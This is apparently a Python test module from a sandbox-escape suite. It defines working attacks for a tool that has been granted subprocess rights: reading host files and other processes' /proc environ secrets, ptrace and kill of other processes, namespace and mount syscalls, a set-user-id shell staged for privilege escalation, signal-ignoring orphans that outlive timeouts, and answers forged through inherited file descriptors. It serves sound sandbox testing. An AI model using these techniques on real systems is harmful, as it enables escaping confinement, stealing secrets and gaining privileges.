"""The loudest power abused: what a tool may start, child, orphan or program, wants what is not the tool's.

The power gives processes and nothing else: they have the tool's files, network, rights and, together, its limits.
"""

from __future__ import annotations

import contextlib
import os
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

from toolwright.escape.attack import (
    LIMITS,
    Attack,
    Family,
    NotHereError,
    Proof,
    Seen,
    changed,
    got_secret,
    hit,
    lasted,
    reached,
    says,
    source,
)
from toolwright.escape.world import World
from toolwright.powers import Grant
from toolwright.sandbox import Ending

_family = Family("subprocess")

LONGER = replace(LIMITS, wall_s=6.0, cpu_s=3.0)
_ANOTHER = 54321
"""The id of nobody who runs this."""
_SHELLS = ("/usr/bin/dash", "/usr/bin/bash", "/bin/sh")

_STARTS = """
import json, signal, subprocess, textwrap

def start(program, *words, **how):
    program = textwrap.dedent(program)
    return subprocess.Popen([sys.executable, "-I", "-S", "-c", program, *words], **how)

def forked(do, count=1):
    # How many there are, and never more than the attack asks for: children do not come back.
    for born in range(count):
        try:
            if os.fork():
                continue
        except OSError:
            return born
        try:
            do(born)
        finally:
            os._exit(0)
    return count

"""

_TELLS = "\nimport json\nprint(json.dumps(attack(**json.loads(sys.argv[1]))))\n"

_IN_CHILD = """
child = start({program!r}, json.dumps(it), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
said, complaint = child.communicate()
# A child that did not run has tried nothing: that is said in the words of an attack that is broken.
return json.loads(said) if said else "TypeError: no child ran: " + complaint[-300:]
"""


def attack(name: str, body: str, proof: Proof, gain: str, **more: Any) -> Attack:
    """An attack that was granted `subprocess`, with `start` and `forked` at hand."""
    for step in ("before", "beside", "after"):
        if step in more:
            more[step] = _STARTS + more[step]
    more = {"grant": lambda _world: Grant(subprocess=True), "limits": LONGER, **more}
    return replace(_family(name, "pass", proof, gain, **more), source=_source(body))


def _source(body: str) -> str:
    return source(_STARTS + body.strip("\n"))


def by_child(name: str, body: str, proof: Proof, gain: str, **more: Any) -> Attack:
    """An attack whose *body* is run by an interpreter that the tool starts: a program of its own, no longer a fork."""
    return attack(name, _IN_CHILD.format(program=source(body) + _TELLS), proof, gain, **more)


def _shared(world: World) -> Grant:
    """It may write to where the marker is: so that only an end in time keeps it from doing so."""
    return Grant(subprocess=True, writes=(str(world.shared),))


@contextlib.contextmanager
def _of_another(world: World, _wall: bool) -> Iterator[dict[str, str]]:
    """A shell that makes whoever starts it another user."""
    shell = next((path for path in _SHELLS if os.path.exists(path)), "")
    if not shell:
        raise NotHereError("this machine has no shell to make a set-user-id program of")
    program = shutil.copy(os.path.realpath(shell), Path(world.folder("programs")) / "program")
    try:
        os.chown(program, _ANOTHER, _ANOTHER)
    except OSError:
        raise NotHereError("only root can make a program of another user") from None
    os.chmod(program, 0o6755)
    yield {"program": str(program)}


def _forged(seen: Seen) -> bool:
    """Whether an answer was believed that the tool itself did not give."""
    return (
        not seen.exit.torn and seen.exit.ending is Ending.EXITED and any(b"smuggled" in one for one in seen.exit.claims)
    )


def _after_says(word: str) -> Proof:
    return lambda seen: word in str(seen.after)


ATTACKS = (
    by_child(
        "files of the host, by a program that it starts",
        """
        return loot(lambda: read(it["readable"]), lambda: read(it["secret"]), lambda: read("/.host" + it["readable"]),
                    lambda: read("/proc/1/root" + it["readable"]), lambda: read("../" * 20 + it["readable"][1:]))
        """,
        got_secret,
        gain="reads files that were not granted, by a process that did not lock itself in",
    ),
    by_child(
        "environments of others, by a program that it starts",
        """
        pids = [it["victim"], it["host"], os.getppid(), 1, "self"]
        return loot(*(lambda pid=pid: read(f"/proc/{pid}/environ") for pid in pids), lambda: str(dict(os.environ)))
        """,
        got_secret,
        gain="reads the keys of its keeper, its zygote or another process: after an exec it may be looked into",
    ),
    by_child(
        "control of others, by a program that it starts",
        """
        import signal
        def attach(pid):
            syscall("ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE, which stops nobody
            return "attached"
        return loot(lambda: attach(it["victim"]), lambda: attach(it["host"]),
                    lambda: os.kill(it["victim"], signal.SIGKILL), lambda: os.killpg(it["victim"], signal.SIGKILL),
                    lambda: signal.pidfd_send_signal(os.pidfd_open(it["victim"]), signal.SIGKILL))
        """,
        lambda seen: changed(seen) or '"attached' in seen.text,
        gain="ends or debugs any process of the same user, now that it may signal its own children",
    ),
    attack(
        "a signal to whoever is in its group",
        """
# In the box the group that it was born in, by no name; without a wall each has its own, and it joins that of another.
signal.signal(signal.SIGWINCH, signal.SIG_IGN)
def join(pid):
    if pid != os.getpid():
        os.setpgid(0, pid)
for pid in read(f"/proc/{os.getppid()}/task/{os.getppid()}/children").split() if os.path.exists("/proc/self") else []:
    loot(lambda: join(int(pid)))
return loot(lambda: os.kill(0, signal.SIGWINCH))
""",
        lambda seen: seen.beside == "signalled",
        beside="""
got = []
signal.signal(signal.SIGWINCH, lambda *_: got.append("signalled"))
began = time.monotonic()
while time.monotonic() < began + it["stay"]:
    time.sleep(0.05)
return {"from": began, "value": "".join(got[:1])}
""",
        gain="ends its zygote and all other guests of it with one call, which names no pid that a namespace would hide",
    ),
    by_child(
        "connections, by a program that it starts",
        """
        import socket
        def to(family, address):
            with socket.socket(family) as one:
                one.settimeout(1)
                one.connect(address)
        return loot(lambda: to(socket.AF_INET, ("127.0.0.1", it["port"])), lambda: to(socket.AF_UNIX, it["unix"]),
                    lambda: to(socket.AF_UNIX, it["abstract"]))
        """,
        hit,
        gain="reaches the network without a host grant",
        wait_s=0.1,
    ),
    by_child(
        "namespaces and mounts, by a program that it starts",
        """
        def born(flags):
            if syscall("clone", flags | 17) == 0:
                os._exit(0)
        def mounted():
            away()
            os.makedirs("here", exist_ok=True)
            return syscall("mount", b"proc\\0", b"here\\0", b"proc\\0", 0, None)
        return doors(born=lambda: born(0x10000000), mount=mounted, own=lambda: syscall("unshare", 0x10000000),
                     pids=lambda: syscall("unshare", 0x20000000), enter=lambda: syscall("setns", -1, 0),
                     root=lambda: syscall("chroot", b"/\\0"))
        """,
        reached,
        gain="is root in namespaces of its own, where the kernel has most of its holes, and sees /proc",
    ),
    attack(
        "a set-user-id program",
        """
program = it["program"]
done = subprocess.run([program, "-p", "-c", 'echo ran; [ -O "$0" ] && echo another', program], capture_output=True)
said = done.stdout.decode()
return said if "ran" in said else "TypeError: it did not run: " + done.stderr.decode()
""",
        says("another"),
        gain="becomes the owner of a program in a folder that it may read: root, as a rule",
        stage=_of_another,
        grant=lambda world: Grant(subprocess=True, reads=(str(world.shared / "programs"),)),
    ),
    attack(
        "orphans with a session of their own",
        """
open(it["marker"] + "-tried", "w").close()
later = "import os, sys, time; os.read(int(sys.argv[2]), 1); time.sleep(1.5); open(sys.argv[1], 'w').close()"
ended, mine = os.pipe()  # it reads to its end when the call is over, however late that is
def orphaned(_):
    os.setsid()
    start(later, it["marker"], str(ended), pass_fds=[ended], stdout=subprocess.DEVNULL, start_new_session=True)
forked(orphaned)
time.sleep(0.3)
return "gone"
""",
        changed,
        gain="goes on after its call, with a folder that was granted for that",
        grant=_shared,
        wait_s=3.0,
    ),
    attack(
        "orphans that ignore every signal that can be",
        """
open(it["marker"] + "-tried", "w").close()
later = '''
import os, signal, sys, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
os.read(int(sys.argv[2]), 1)
time.sleep(1.5)
open(sys.argv[1], "w").close()
'''
ended, mine = os.pipe()  # it reads to its end when the call is over, however late that is
for number in range(3):
    forked(lambda _: start(later, it["marker"], str(ended), pass_fds=[ended], start_new_session=number > 0))
time.sleep(30)
""",
        changed,
        gain="goes on after it was ended for taking too long, where the end is a request or is sent to one process",
        grant=_shared,
        limits=replace(LONGER, wall_s=2.0),
        bare_s=4.0,
        wait_s=3.5,
    ),
    attack(
        "an orphan that keeps the call waiting",
        """
import threading
held = start("import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(60)", close_fds=False)
threading.Thread(target=held.wait).start()
return "own"
""",
        lasted(8.0),
        gain="holds the pipes of its call open, so that its keeper waits for an end that does not come",
        bare_s=10.0,
    ),
    attack(
        "answers by a child",
        """
later = '''
import json, os, sys, time
until = time.monotonic() + 2
while time.monotonic() < until:
    for item in range(1, 3):
        said = json.dumps({"item": item, "ok": True, "value": "smuggled"}).encode()
        for number in range(3, 16):
            try:
                os.write(number, len(said).to_bytes(4, "big") + bytes.fromhex(sys.argv[1]) + said)
            except OSError:
                pass
    open("said", "w").close()
    time.sleep(0.01)
'''
def token():
    # What stands before the answer that is due: the child can have no later one.
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value) is bytes and len(value) == 8:
                return value
        frame = frame.f_back
    return b""
if not hasattr(sys, "started"):
    printed = {os.fstat(number).st_ino for number in (1, 2)}
    for number in range(3, 16):
        loot(lambda: os.set_inheritable(number, os.fstat(number).st_ino not in printed))
    sys.started = start(later, token().hex(), close_fds=False)
    while not os.path.exists("said") and time.monotonic() < it["started"] + 5:
        time.sleep(0.02)
return "own"
""",
        _forged,
        items=3,
        gain="answers by another process what the tool is asked next, and is believed",
    ),
    attack(
        "files for the next call, by an orphan",
        """
text = "import sys; open(sys.argv[1], 'w').write('left-behind')"
for path in ("left", it["marker"]):
    start(text, path, start_new_session=True, stderr=subprocess.DEVNULL).wait()
return "done"
""",
        _after_says("left-behind"),
        after='return loot(lambda: read("left"), lambda: read(it["marker"]))',
        gain="leaves a file that a later call of another tool takes for its own",
    ),
    attack(
        "a crash that is written down",
        """
import resource
loot(lambda: resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2))
# After an exec a process may be looked into again, and so the kernel would write it down as well.
status = os.waitpid(start("import os; os.abort()", stderr=subprocess.DEVNULL).pid, 0)[1]
return "written" if os.WCOREDUMP(status) else f"signal {os.WTERMSIG(status)}"
""",
        says("written"),
        gain="has the kernel write a file past all limits, or a program of the host run as root on what crashed",
        kernel="everybody",  # where no user may have a core
    ),
)
